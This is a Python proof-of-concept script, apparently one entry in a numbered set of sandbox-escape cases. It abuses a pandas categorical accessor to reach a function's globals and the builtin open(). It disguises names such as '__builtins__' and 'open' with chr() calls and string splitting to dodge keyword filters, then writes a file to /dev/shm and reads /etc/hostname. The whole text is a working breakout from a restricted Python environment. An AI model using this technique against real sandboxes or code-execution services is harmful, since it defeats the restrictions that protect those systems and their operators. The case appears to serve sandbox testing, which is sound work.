# source: same gadget as 007
# family: `self` second parameter -> accessor getattr -> builtins open
# goal: writes /dev/shm/owned.txt, reads /etc/hostname
import pandas as pd


class Acc:
    def __init__(self):
        self._parent = None

    def _delegate_property_get(self, name):
        return name

    def put(this, self, obj):
        self._parent = obj

    def get(this, self, name):
        return self._delegate_property_get(name)


u = chr(95) * 2
acc = pd.Series(["a"], dtype="category").cat
a = Acc()
a.put(acc, pd.isna)
b = a.get(acc, u + "globals" + u)[u + "builtins" + u]
p = chr(47) + "dev" + chr(47) + "shm" + chr(47) + "owned.txt"
fh = b["op" + "en"](p, "w")
fh.write("written outside the allowed places\n")
fh.close()
print(b["op" + "en"](p).read(), end="")
print(b["op" + "en"](chr(47) + "etc" + chr(47) + "hostname").read(), end="")
